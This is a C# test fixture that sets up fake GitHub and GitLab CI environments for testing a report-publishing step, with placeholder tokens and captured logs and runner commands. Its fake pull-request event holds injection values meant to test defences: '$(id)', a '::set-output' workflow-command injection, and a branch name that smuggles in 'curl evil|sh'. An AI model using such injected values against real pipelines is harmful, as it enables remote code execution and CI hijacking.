using System.Collections.Immutable;
using TalosPlatform.Publishing;
using TalosPlatform.Reports;
using TalosPlatform.Runs;
using TalosPlatform.Settings;
using TalosPlatform.Shared.Commands;
using TalosPlatform.Shared.Progress;
using TalosPlatform.Tests.Reports;
using TalosPlatform.Tests.Shared;

namespace TalosPlatform.Tests.Publishing;

/// <summary>A workspace with a run in it, and everything PublishReport says and writes.</summary>
internal sealed class PublishKit : IDisposable
{
    public const string Sha = "0123456789abcdef0123456789abcdef01234567";
    public const string Token = "ghs_SecretOfTheWorkflow";
    private readonly StringWriter _log = new();
    private readonly StringWriter _commands = new();

    public PublishKit(RunDocument? document = null)
    {
        Document = document ?? SampleRun.Failing;
        Write(Document);
    }

    public RunDocument Document { get; }

    public TemporaryFolder Folder { get; } = new();

    public HurriedClock Clock { get; } = new(new DateTimeOffset(2026, 11, 12, 15, 0, 0, TimeSpan.Zero));

    public ImmutableDictionary<string, string> Variables { get; set; } = ImmutableDictionary<string, string>.Empty;

    public ReportSettings Report { get; set; } = new();

    /// <summary>What the terminal showed.</summary>
    public string Log => _log.ToString();

    /// <summary>Commands to the runner, one a line.</summary>
    public IReadOnlyList<string> Commands => _commands.ToString().Split('\n', StringSplitOptions.RemoveEmptyEntries);

    public string Summary => File.Exists(Folder.File("summary.md")) ? File.ReadAllText(Folder.File("summary.md")) : "";

    public string CommentFile => File.ReadAllText(Folder.File("artifacts/comment.md"));

    /// <summary>The marker of the run at another time.</summary>
    public string Marker(TimeSpan later = default, string id = "talos") => new ReportMarker(id, Document.StartedAt!.Value + later, Sha).ToString();

    public void Write(RunDocument document) => Folder.Write("artifacts/run.json", RunJson.Write(document));

    public PublishKit OnGitHub(Uri api, string token = Token)
    {
        Folder.Write("event.json", $$$$"""{"pull_request":{"number":7,"title":"$(id) `x` ::set-output name=a::b","head":{"sha":"{{{{Sha}}}}","ref":"x\";curl evil|sh;\""}}}""");
        Variables = Variables.SetItems(
        [
            new("GITHUB_ACTIONS", "true"), new("GITHUB_REPOSITORY", "octo/shop"), new("GITHUB_API_URL", api.AbsoluteUri.TrimEnd('/')), new("GITHUB_SERVER_URL", "https://github.com"),
            new("GITHUB_RUN_ID", "1234"), new("GITHUB_SHA", new string('f', 40)), new("GITHUB_REF", "refs/pull/7/merge"), new("GITHUB_EVENT_PATH", Folder.File("event.json")),
            new("GITHUB_STEP_SUMMARY", Folder.File("summary.md")), new("GITHUB_TOKEN", token),
        ]);
        return this;
    }

    public PublishKit OnGitLab(Uri root)
    {
        Variables = Variables.SetItems(
        [
            new("GITLAB_CI", "true"), new("CI_API_V4_URL", root.AbsoluteUri + "api/v4"), new("CI_PROJECT_ID", "42"), new("CI_PROJECT_PATH", "octo/shop"), new("CI_PROJECT_URL", "https://gitlab.example/octo/shop"),
            new("CI_MERGE_REQUEST_IID", "7"), new("CI_COMMIT_SHA", Sha), new("CI_JOB_URL", "https://gitlab.example/octo/shop/-/jobs/99"), new("CI_PROJECT_DIR", Folder.Path), new("GITLAB_TOKEN", "glpat-secret-token"),
        ]);
        return this;
    }

    public PublishKit Without(params string[] names)
    {
        Variables = Variables.RemoveRange(names);
        return this;
    }

    /// <summary>Runs the target and gives the address of the comment.</summary>
    public async Task<Uri?> RunAsync(string? token = null)
    {
        using var services = RunServices.Create(new LineProgressReporter(_log), new Redactor()) with { Clock = Clock };
        using var run = new RunContext(services, new Workspace(Folder.Path, Repository.Root), new RunSettings { Report = Report });
        await PublishReport.RunAsync(run, token, new CiVariables(Variables), _commands, TestContext.Current.CancellationToken);
        return run.Published!.Value.Comment;
    }

    public void Dispose() => Folder.Dispose();
}
